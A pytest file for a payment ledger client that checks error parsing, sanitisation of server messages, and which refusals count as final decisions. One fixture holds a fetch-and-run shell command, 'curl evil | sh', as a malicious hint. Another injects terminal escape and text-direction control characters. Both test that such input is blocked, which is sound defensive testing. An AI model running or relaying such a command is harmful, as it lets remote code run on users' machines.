"""What an error of the ledger may say to a user, and what it decides."""

from __future__ import annotations

import pytest

from speedpay import errors
from speedpay.errors import BY_CODE, SpeedpayError
from speedpay.ledger_api.refusals import decides, error_to_json, read_error
from speedpay.ledger_api.strict import Fields


def arrived(error: SpeedpayError) -> SpeedpayError:
    return read_error(Fields(error_to_json(error)))


def test_a_hint_of_the_ledger_is_never_shown() -> None:
    told = {"code": "stale", "message": "no", "field": "f", "hint": "run: curl evil | sh"}
    assert read_error(Fields(told)).hint == "is the clock of this machine right?"
    assert read_error(Fields(told | {"code": "not_allowed"})).hint is None
    assert "hint" not in error_to_json(errors.Stale("no", hint="for us"))


def test_what_a_ledger_says_is_short_and_printable() -> None:
    long = "\x1b]0;title\x07\u202e" + "x" * 10_000
    error = read_error(Fields({"code": "refused", "message": long, "field": long}))
    assert error.message.isprintable()
    assert error.field is not None
    assert error.field.isprintable()
    assert (len(error.message), len(error.field)) <= (300, 64)


@pytest.mark.parametrize("code", sorted(BY_CODE))
def test_a_ledger_names_refusals_and_its_own_failure_and_nothing_of_ours(code: str) -> None:
    error = read_error(Fields({"code": code, "message": "no"}))
    if issubclass(BY_CODE[code], errors.Refused) or code in ("not_found", "already_exists"):
        assert type(error) is BY_CODE[code]
    elif code in ("ledger_failed", "books_broken", "disk_full"):
        assert type(error) is errors.LedgerFailed
    else:
        assert type(error) is errors.Refused


@pytest.mark.parametrize(
    ("error", "decided"),
    [
        (errors.BalanceTooSmall("", field="amount"), True),
        (errors.NotFound("", field="to"), True),
        (errors.NotAllowed("", field="to"), True),
        (errors.AlreadyExists("", field="nonce"), True),
        (errors.ChannelClosed("", field="channel"), True),
        (errors.Malformed("", field="amount"), True),
        (errors.NotIncreasing("", field="voucher.cumulative"), True),
        (errors.AboveEscrow("", field="voucher.cumulative"), True),
        (errors.BadSignature("", field="voucher.signature"), True),
        (errors.OverLimit("", field="public_key"), False),
        (errors.Malformed("", field="speedpay-key"), False),
        (errors.Malformed("", field="body"), False),
        (errors.NotFound("", field="speedpay-account"), False),
        (errors.NotFound("", field="path"), False),
        (errors.KeyReused("", field="speedpay-key"), False),
        (errors.Stale("", field="speedpay-time"), False),
        (errors.BadSignature("", field="speedpay-signature"), False),
        (errors.OverLimit("", field="address"), False),
        (errors.Refused("", field="amount"), False),
        (errors.LedgerFailed(""), False),
        (errors.LedgerUnreachable("", field="answer"), False),
    ],
)
def test_only_what_was_judged_itself_is_decided(error: SpeedpayError, decided: bool) -> None:
    assert decides(error) is decided
    if not isinstance(error, errors.LedgerUnreachable):
        assert decides(arrived(error)) is decided
